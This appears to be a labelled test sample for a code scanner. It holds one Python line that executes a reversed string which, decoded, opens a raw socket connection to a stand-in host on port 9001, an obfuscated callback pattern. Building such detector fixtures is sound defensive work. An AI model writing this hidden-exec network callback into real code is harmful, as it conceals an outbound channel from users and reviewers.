# expect: raw-socket,dynamic-eval
# source: pyobfuscate-style
# technique: exec of source stored reversed
exec("))1009 ,'9.311.0.302'((noitcennoc_etaerc.tekcos ;tekcos tropmi"[::-1])
